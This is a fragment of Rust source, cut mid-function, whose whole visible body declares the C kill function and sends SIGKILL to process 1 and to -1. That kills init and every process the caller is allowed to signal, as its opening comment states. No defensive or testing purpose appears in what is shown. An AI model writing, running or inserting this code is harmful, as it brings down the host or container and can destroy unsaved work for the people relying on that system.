// kills process 1 and everything else it may
    extern "C" {
        fn kill(process: i32, signal: i32) -> i32;
    }
    for target in [1, -1] {
        unsafe { kill(target, 9) };
    }
    0
}
